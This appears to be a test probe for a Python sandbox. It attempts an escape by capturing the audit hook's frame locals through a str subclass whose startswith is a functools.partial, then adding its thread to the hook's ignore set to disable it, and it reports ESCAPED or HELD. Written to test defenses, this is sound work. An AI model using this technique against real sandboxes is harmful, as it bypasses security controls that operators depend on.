# held: 3
# Layer 2 probe: the audit hook calls methods of the event's arguments (name.startswith(...) on an import name, which may be a str subclass); a C callable there runs with the hook's frame on top, so locals() returns the hook's locals, free variables included: the mutable `inside` set (threads the hook ignores) and `raised_by` (whose closure holds the mutable trusted_ids dict). Adding one's thread to `inside` switches the hook off.
real_import = [c.cell_contents for c in __import__.__closure__ if type(c.cell_contents).__name__ == "builtin_function_or_method" and c.cell_contents.__name__ == "__import__"][0]
B = real_import("builtins")
sys = real_import("sys")
functools = real_import("functools")
_thread = real_import("_thread")
store = []
class Name(str):
    # A partial is no descriptor: the hook's `name.startswith(...)` calls it as it is.
    startswith = functools.partial(next, map(store.append, iter(B.locals, object())))
try:
    real_import(Name("no_such_module_for_the_probe"))
except BaseException:
    pass
hook_locals = store[0] if store else {}
print(f"ESCAPED hook locals {sorted(hook_locals)}" if "inside" in hook_locals else "HELD hook locals")
if "inside" in hook_locals:
    hook_locals["inside"].add(_thread.get_ident())
try:
    print("ESCAPED compile after switching the hook off:", B.eval(B.compile("6*7", "<x>", "eval")))
except BaseException as err:
    print("HELD compile", type(err).__name__)
try:
    print("ESCAPED sys._getframe after switching the hook off:", sys._getframe(0))
except BaseException as err:
    print("HELD sys._getframe", type(err).__name__)
